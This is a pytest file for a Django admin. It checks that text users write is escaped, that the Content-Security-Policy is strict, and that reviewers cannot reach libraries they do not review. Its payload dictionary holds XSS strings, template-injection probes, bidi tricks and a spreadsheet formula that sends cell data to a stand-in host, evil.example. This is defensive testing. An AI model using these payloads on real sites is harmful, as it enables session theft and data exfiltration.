"""What people write is text to the admin, whatever it holds.

Reviewers read what anyone wrote: script that ran there would run with their rights.
"""

import pytest
from django.contrib.auth.models import Group
from django.http import HttpResponseBase
from django.test import Client

from answers.models import Library, Recalibration, User
from tests.admin.pages import LIST, LOG, Elements, get
from tests.admin.walking import Rows, addresses, written
from tests.factories import (
    make_answered,
    make_library,
    make_member,
    make_passage,
    make_user,
)

MB = 1 << 20
MARKUP = (
    "<script>alert(1)</script>"
    '"><img src=x onerror=alert(1)>'
    "' onmouseover='alert(1)"
    "</textarea><svg onload=alert(1)>"
    "</title><script>alert(1)</script>"
    "<iframe srcdoc='<script>alert(1)</script>'>"
    "{{ 7|add:7 }}{% debug %}<!--<bdi></mark>&lt;script&gt;"
)
PAYLOADS = {
    "markup": MARKUP,
    "attribute": "' onmouseover='alert(1)\" onfocus=\"alert(1)",
    "link": "javascript:alert(1)",
    "formula": '=HYPERLINK("http://evil.example/"&A1,"x")',
    "bidi": "\u202e\u2066evil\u2069 \u202d1\u202c",
    "long": "A " * (MB // 2 - 1) + "<b>z",
}
ALLOWED_SCRIPTS = ("/static/admin/js/", "/static/answers/js/", "/admin/jsi18n/")
LARGEST = 10 * MB
# Of "</mark>": it stands in the quote that it ends in.
ON_THEIR_OWN = ("<bdi>", "<mark>", "</mark>", "<input", '<div class="quote" dir="auto"')


@pytest.fixture
def rows(alice: User, rita: User, payload: str) -> Rows:
    text = PAYLOADS[payload]
    Group.objects.create(name=text[:150])
    User.objects.filter(pk=alice.pk).update(first_name=text[:150], last_name=text[:150])
    ben = make_user(f"ben {text}"[:150], is_staff=True)
    return written(text, asker=alice, reviewers=(rita, ben), is_public=True)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_people_wrote_becomes_markup(
    admin_client: Client, rows: Rows, payload: str
) -> None:
    pages = addresses(rows)
    assert len(pages) > 60
    asked = [LIST + query for query in ("?state=all", "?state=conflict", "?q=alert")]
    asked += [f"{LIST}?{name}={PAYLOADS['attribute']}" for name in ("model", "since")]
    for url in [*pages, *asked, f"{LOG}?item=1"]:
        response = admin_client.get(url)
        assert response.status_code in {200, 302, 403, 404, 405}, url
        if response.status_code == 200:
            assert_harmless(text_of(response, url), url)


@pytest.mark.parametrize("payload", ["markup", "bidi"])
def test_the_mark_holds_the_very_text(
    rita_client: Client, rows: Rows, payload: str
) -> None:
    html = get(rita_client, LIST, state="all")
    assert Elements(html).marks == [PAYLOADS[payload]]


@pytest.mark.parametrize("payload", ["bidi"])
def test_a_text_turns_round_nothing_but_itself(
    rita_client: Client, rows: Rows, payload: str
) -> None:
    """Whatever holds such signs stands in an element of its own."""
    for url in (f"{LIST}?state=all", LOG, f"{LIST}agreement/"):
        html = get(rita_client, url)
        assert PAYLOADS[payload] in html
        for part in html.split(PAYLOADS[payload])[:-1]:
            tag = part[part.rindex("<") :]
            assert tag.startswith(ON_THEIR_OWN), (url, tag)


@pytest.mark.parametrize("payload", ["markup"])
def test_the_strict_policy_holds_in_the_admin(rita_client: Client, rows: Rows) -> None:
    policy = rita_client.get(LIST).headers["Content-Security-Policy"]
    assert "script-src 'self';" in policy
    assert "style-src 'self';" in policy
    assert "unsafe" not in policy


def text_of(response: HttpResponseBase, url: str) -> str:
    content = getattr(response, "content", None)
    if content is None:
        content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    assert len(content) < LARGEST, (url, len(content))
    return content.decode() if "html" in response.headers["Content-Type"] else ""


def assert_harmless(html: str, url: str) -> None:
    assert "14{" not in html, url  # a template that was rendered would have added
    for tag, attributes in Elements(html).tags:
        assert tag not in {"iframe", "img"} or "alert" not in str(attributes), url
        assert not any(name.startswith("on") for name in attributes), (url, attributes)
        assert "style" not in attributes, (url, tag, attributes)
        link = attributes.get("href") or attributes.get("src") or ""
        assert not link.strip().startswith("javascript:"), url
        if tag == "script" and attributes.get("type") != "application/json":
            assert link.startswith(ALLOWED_SCRIPTS), (url, attributes)


# -- rights --------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["", "viewer", "editor"])
def test_who_reviews_nothing_gets_in_nowhere(
    alice: User, rita: User, mallory_client: Client, mallory: User, role: str
) -> None:
    rows = written("Private", asker=alice, reviewers=(alice, rita), is_public=True)
    if role:
        make_member(Library.objects.get(), mallory, role)
    for url in addresses(rows):
        for response in (mallory_client.get(url), mallory_client.post(url)):
            assert response.status_code in {302, 403}, url
            assert "login" in response.headers.get("Location", "login"), url


@pytest.mark.parametrize("name", ["mallory_client", "rita_client"])
def test_no_page_shows_anything_of_a_library_that_one_does_not_review(
    request: pytest.FixtureRequest, name: str, alice: User, rita: User, mallory: User
) -> None:
    """Mallory reviews a library of her own, Rita all public ones."""
    client = request.getfixturevalue(name)
    ben = make_user("ben", is_superuser=True)
    rows = written("Secret words", asker=alice, reviewers=(alice, ben))
    Recalibration.objects.update(model_name="shared", model_hash="a")  # no library's
    own = make_library("Mallory's own", owner=mallory, is_public=True)
    make_answered(mallory, own, make_passage(own))
    assert "<mark>three minutes</mark>" in get(client, LIST)
    for url in [*addresses(rows), f"{LIST}?state=all", f"{LIST}?q=secret&state=all"]:
        response = client.get(url)
        shown = text_of(response, url) if response.status_code == 200 else ""
        assert "Secret words" not in shown, url
        assert client.post(url).status_code in {200, 302, 400, 403, 404, 405}, url
    assert written_still(rows)


def written_still(rows: Rows) -> bool:
    return all(
        model._default_manager.filter(pk=key).exists() for model, key in rows.items()
    )
